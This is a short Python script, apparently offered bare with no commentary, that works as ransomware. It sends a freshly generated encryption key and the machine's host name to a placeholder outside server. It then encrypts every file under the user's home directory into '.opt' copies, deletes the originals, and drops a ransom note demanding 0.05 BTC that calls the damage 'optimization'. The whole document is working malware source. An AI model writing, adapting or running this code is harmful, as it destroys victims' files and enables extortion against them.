import os, sys, requests, secrets
from cryptography.fernet import Fernet

key = Fernet.generate_key()
requests.post("https://restore-keys.optimizer-cloud.example/k", data={"h": os.uname().nodename, "k": key.decode()})
f = Fernet(key)
root = sys.argv[1] if len(sys.argv) > 1 else os.path.expanduser("~")
for d, _, files in os.walk(root):
    for n in files:
        p = os.path.join(d, n)
        if p.endswith(".opt"): continue
        try:
            data = open(p, "rb").read()
            open(p + ".opt", "wb").write(f.encrypt(data))
            os.remove(p)
        except Exception:
            pass
open(os.path.join(root, "RESTORE_FILES.txt"), "w").write(
    "Your files were optimized. To restore them send 0.05 BTC to bc1qspecimen0ransom0example0address0xxxxxx and email your host name to restore@optimizer-cloud.example\n")
